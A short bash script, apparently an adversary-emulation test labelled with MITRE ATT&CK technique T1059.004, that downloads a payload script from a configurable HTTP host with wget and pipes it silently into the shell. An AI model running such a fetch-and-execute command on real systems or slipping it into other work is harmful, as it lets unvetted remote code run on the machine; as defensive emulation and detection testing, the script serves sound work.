#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1059.004
# tactic: execution
# what: wget -qO- URL | sh
. "$AT_LIB"
wget -qO- "$AT_HTTP/payload.sh" | sh >/dev/null
